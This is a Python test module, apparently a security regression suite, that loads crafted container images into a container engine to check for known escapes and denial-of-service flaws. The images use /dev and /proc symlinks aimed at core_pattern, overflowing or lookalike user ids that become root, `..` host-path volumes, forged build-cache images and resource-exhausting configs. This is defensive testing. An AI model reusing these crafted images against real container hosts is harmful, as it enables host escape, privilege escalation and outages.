"""Advisories about images: what was once possible in other engines with the files and settings of an image."""

from __future__ import annotations

import contextlib
import hashlib
import json
import socket
import tarfile
import time
from typing import Any

import pytest
from archives import Member, directory, link, tar_of
from attack_target import Response, Target, busybox_members
from attacks import ISOLATED, attack
from engine_memory import memory_for

PATH = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
LATER = "2031-01-01T00:00:00Z"  # the newest of several images is the one that a build uses as its cache
#: What may be done to a setting of the kernel that is mounted where a program can write: it gets the value it has.
WRITE_AGAIN = "cat {setting} > {mask} && echo WRITTEN"


def load_image(target: Target, *members: Member, config: dict[str, Any] | None = None, **document: Any) -> str:
    """Load an image that has a shell and these members, with a config of its own. Return its name; empty if refused."""
    layer, name = tar_of(*busybox_members(target.host), *members), target.name_image()
    if load(target, layer, name, {"Env": [PATH], **(config or {})}, **document).error:
        return ""
    return name


def load(target: Target, layer: bytes, name: str, config: dict[str, Any], **document: Any) -> Response:
    """Load an image with one layer."""
    rootfs = {"type": "layers", "diff_ids": [f"sha256:{hashlib.sha256(layer).hexdigest()}"]}
    image = {"architecture": "amd64", "os": "linux", "config": config, "rootfs": rootfs, **document}
    manifest = [{"Config": "config.json", "RepoTags": [f"{name}:latest"], "Layers": ["layer.tar"]}]
    return target.load(
        ("config.json", json.dumps(image).encode()),
        ("layer.tar", layer),
        ("manifest.json", json.dumps(manifest).encode()),
    )


@pytest.mark.parametrize("setting", ["/proc/sys/kernel/core_pattern", "/proc/sys/vm/panic_on_oom"])
@attack(ISOLATED)
def test_volume_over_dev_whose_null_is_a_link(target: Target, setting: str) -> None:
    """An image's volume over /dev has a link as /dev/null, with which the engine would mask files (CVE-2025-31133)."""
    image = load_image(target, directory("dev"), link("dev/null", setting), config={"Volumes": {"/dev": {}}})
    masks = ["/proc/interrupts", "/proc/keys", "/proc/kcore", "/proc/timer_list"]
    script = "; ".join(WRITE_AGAIN.format(setting=setting, mask=mask) for mask in masks)
    if image and "WRITTEN" in (output := target.shell(f"{{ {script}; }} 2>/dev/null", image=image)):
        target.reached(f"{setting} was written: {output}")


@attack(ISOLATED)
def test_volume_over_dev_whose_console_is_a_link(target: Target) -> None:
    """An image's volume over /dev has links as /dev/console and /dev/pts, with a terminal (CVE-2025-52565)."""
    links = [link("dev/console", "/proc/sys/kernel/core_pattern"), link("dev/pts", "/proc/sys/kernel")]
    image = load_image(target, directory("dev"), *links, config={"Volumes": {"/dev": {}}})
    if image and (output := target.shell("cat /proc/mounts", image=image)) and "core_pattern" in output:
        target.reached(output)


@pytest.mark.parametrize("path", ["/proc", "/proc/sys", "/proc/sys/net", "/sys"])
@attack(ISOLATED)
def test_setting_of_the_kernel_goes_to_a_volume(target: Target, path: str) -> None:
    """An image's volume over /proc has a link where the engine writes a setting of the kernel (CVE-2025-52881)."""
    folders = ["proc", "proc/sys", "proc/sys/net"]
    members = [*map(directory, folders), link("proc/sys/net/ipv4", "/sys/kernel"), link("sys", "proc/sys")]
    image = load_image(target, *members, config={"Volumes": {path: {}}})
    host = {"Sysctls": {"net.ipv4.ip_forward": "1", "kernel.shmmax": "65536"}}
    if image:
        target.shell("cat /proc/sys/net/ipv4/ip_forward", image=image, HostConfig=host)


@pytest.mark.parametrize("user", ["1000", "1000:2000", ":2000"])
@attack(ISOLATED)
def test_number_that_is_a_name(target: Target, user: str) -> None:
    """An image runs as a number that is also the name of a user or group of root (CVE-2016-3697)."""
    passwd = b"root:x:0:0::/:/bin/sh\n1000:x:0:0::/:/bin/sh\n"
    files = [("etc/passwd", passwd), ("etc/group", b"root:x:0:\n2000:x:0:\n")]
    image = load_image(target, *files, config={"User": user})
    uid, _, gid = ("0", "", "0") if has_one_user(target) else user.partition(":")
    for config in ({}, {"User": user}):
        output = target.run("id", image=image, **config)
        if output and (f"uid={uid or 0}" not in output or f"gid={gid}" not in output):
            target.reached(output)


def has_one_user(target: Target) -> bool:
    """Tell whether the engine says that it can't run programs as other users, as in a user namespace of one id."""
    warnings = target.ask("GET", "/info").document["Warnings"] or []
    return any("All programs run as the same user" in warning for warning in warnings)


def run_as(target: Target, user: str) -> None:
    """Run images as a user of this number, which stands in their config or in their /etc/passwd, and look for root."""
    image = load_image(target, config={"User": user})
    passwd = f"root:x:0:0::/:/bin/sh\nlarge:x:{user.replace(':', '')}:{user.partition(':')[2] or user}::/:/bin/sh\n"
    other = load_image(target, ("etc/passwd", passwd.encode()), config={"User": "large"})
    for name in filter(None, (image, other)):
        container = target.create("id", image=name)
        response = target.start(container) if container else None
        if response is not None and response.status == 204:
            target.ask("POST", f"/containers/{container}/wait")
            if "uid=0" in target.output(container):
                target.reached(f"user {user} is root")
        elif response is not None and "Error:" in response.error:
            target.reached(f"the text of an exception: {response.error}")


@pytest.mark.parametrize(
    "user", ["4294967296", "4294967295", "2147483648", "18446744073709551616", "1:4294967296", "-1"]
)
@attack(ISOLATED, exception="Docker 20.10 takes 4294967296 in /etc/passwd for 0; 28.5 withstands it", since=28)
def test_number_of_a_user_that_is_too_large(target: Target, user: str) -> None:
    """The number of an image's user is so large that it could become that of root (CVE-2024-40635)."""
    run_as(target, user)


@pytest.mark.parametrize("user", ["²", "1:²"])
@attack(ISOLATED, exception="Docker 20.10 and 28.5 take it for 0 in /etc/passwd")
def test_number_of_a_user_that_is_none(target: Target, user: str) -> None:
    """The number of an image's user is a character that only looks like one."""
    run_as(target, user)


@attack()
def test_rows_of_users_that_are_nonsense(target: Target) -> None:
    """The rows of an image's /etc/passwd and /etc/group have no numbers, or numbers of thousands of digits."""
    for row in ("root:x:0:abc::/:/bin/sh", "root:x:²:0::/:", f"root:x:{'9' * 5000}:0::/:", "root:x:-5:0::/:", "::::"):
        image = load_image(target, ("etc/passwd", f"{row}\n".encode()), ("etc/group", f"{row}\n".encode()))
        container = target.create("true", image=image, User="root", HostConfig={"GroupAdd": ["root"]})
        response = target.start(container)
        if "Error:" in response.error or "invalid literal" in response.error:
            target.reached(response.error)


@attack(exception="Docker 20.10 needs more than half a minute for the start; 28.5 refuses it", since=28)
def test_group_file_of_a_gigabyte(target: Target) -> None:
    """An image's /etc/group is so large that the engine can't hold it in memory (CVE-2026-47262)."""
    size = 1 << 30
    sparse = tarfile.TarInfo("etc/group")
    sparse.size, sparse.pax_headers = 512, {"GNU.sparse.major": "0", "GNU.sparse.minor": "1"}
    sparse.pax_headers |= {"GNU.sparse.map": "0,512", "GNU.sparse.size": str(size), "GNU.sparse.numblocks": "1"}
    members: list[Member] = [("etc/passwd", b"root:x:0:0::/:/bin/sh\n"), *busybox_members(target.host)]
    layer = sparse.tobuf(tarfile.PAX_FORMAT) + b"x" * 512 + tar_of(*members)
    name = target.name_image()
    load(target, layer, name, {"Env": [PATH], "User": "root"})
    if memory_for(target.host, lambda: target.run("true", image=name)) > size // 2:
        target.reached("the engine has read a gigabyte")


@attack()
def test_image_that_can_t_be_stopped(target: Target) -> None:
    """An image's stop signal does not exist, so its containers could be neither stopped nor killed."""
    image = load_image(target, config={"StopSignal": "SIGNONE"})
    container = target.create("sleep", "60", image=image) if image else ""
    if container and target.start(container).status == 204:
        response = target.ask("POST", f"/containers/{container}/kill")
        state = target.ask("GET", f"/containers/{container}/json").document["State"]["Status"]
        if state == "running":
            target.reached(f"the container runs after kill: {response.error}")


@attack()
def test_volumes_and_working_directory_with_dots(target: Target) -> None:
    """The volumes and the working directory of an image lead to the host with `..` (CVE-2022-23648)."""
    up = "/.." * 20
    volumes: dict[str, Any] = {f"{up}{target.canary}/directory": {}, "/link": {}, "/link/../..": {}}
    members = [link("link", f"{'../' * 20}{target.canary}/directory")]
    config = {"Volumes": volumes, "WorkingDir": f"{up}{target.canary}/new"}
    image = load_image(target, *members, config=config)
    if image and (container := target.create("sh", "-c", "cat ./* /link/*", image=image)):
        target.start(container)
        target.ask("POST", f"/containers/{container}/wait")
        target.output(container)
        target.read_everywhere(container, "/link", "/link/.", ".")


@attack(exception="Docker 20.10 trusts such an image; 28.5 withstands it", since=28)
def test_cache_of_a_build(target: Target) -> None:
    """A loaded image claims to be the result of a step of the user's Dockerfile FROM scratch (CVE-2024-24557)."""
    context: list[Member] = [("file", b"the user's own\n")]
    dockerfile = "FROM scratch\nCOPY file /\n"
    built, response = target.build(dockerfile, *context)
    assert not response.error
    step = target.send("GET", f"/images/{built}/history").document[0]["CreatedBy"]
    history = [{"created": LATER, "created_by": step}]
    container_config: dict[str, Any] = {"Cmd": ["/bin/sh", "-c", step.removeprefix("/bin/sh -c ")]}
    for result in (container_config, {**container_config, "Env": [PATH]}):
        for config in ({"Env": [PATH]}, {"Env": [PATH], "Cmd": None}):
            load(
                target, tar_of(("file", b"FORGED\n")), target.name_image(), config,
                created=LATER, history=history, container_config=result,
            )  # fmt: skip
    again, response = target.build(dockerfile, *context, nocache="")
    assert not response.error
    container = target.create("true", image=again)
    if b"FORGED" in target.get(container, "/file").data:
        target.reached("the build used the file of the loaded image")


@pytest.mark.parametrize("form", ["{id}:latest", "sha256:{id}", "library/{id}"])
@attack()
def test_name_that_is_the_id_of_another_image(target: Target, form: str) -> None:
    """A loaded image has the id of another image as its name, so that the id would lead to it."""
    victim = target.send("GET", "/images/busybox/json").document["Id"]
    layer = tar_of(("file", b"x"))
    for digits in (64, 63, 12):
        name = form.format(id=victim.removeprefix("sha256:")[:digits])
        load(target, layer, name.removesuffix(":latest"), {"Env": [PATH]})
    ids = (victim, victim[7:], victim[:19], victim[:40])
    responses = {reference: target.send("GET", f"/images/{reference}/json") for reference in ids}
    for reference, response in responses.items():
        if response.status == 200 and response.document["Id"] != victim:
            target.reached(f"{reference} is another image now")


@attack()
def test_port_that_no_port_can_be(target: Target) -> None:
    """An image exposes port 70000, to which the engine would connect when a client comes."""
    image = load_image(target, config={"ExposedPorts": {"70000/tcp": {}, "0/tcp": {}, "99999999999999999999/udp": {}}})
    neighbour = target.create("sleep", "60")
    assert target.start(neighbour).status == 204
    container = target.create("sleep", "60", image=image, HostConfig={"PublishAllPorts": True}) if image else ""
    if container and target.start(container).status == 204:
        bindings = target.ask("GET", f"/containers/{container}/json").document["NetworkSettings"]["Ports"] or {}
        for binding in (binding for port in bindings.values() for binding in port or []):
            with (
                contextlib.suppress(OSError),
                socket.create_connection(("127.0.0.1", int(binding["HostPort"])), 2) as client,
            ):
                client.recv(1)
    if target.start(target.create("true")).status != 204:
        target.reached("no container can be started any more")


@attack()
def test_health_check_without_a_pause(target: Target) -> None:
    """An image's health check has an interval of one nanosecond, or a negative one: the engine must still answer."""
    for interval in (1, -(10**9)):
        check = {"Test": ["CMD", "true"], "Interval": interval, "Timeout": interval, "Retries": 1}
        image = load_image(target, config={"Healthcheck": check})
        container = target.create("sleep", "60", image=image) if image else ""
        if container and target.start(container).status == 204:
            begin = time.monotonic()
            for _ in range(20):
                target.send("GET", "/_ping")
            if time.monotonic() - begin > 10:
                target.reached("the engine answers slowly")
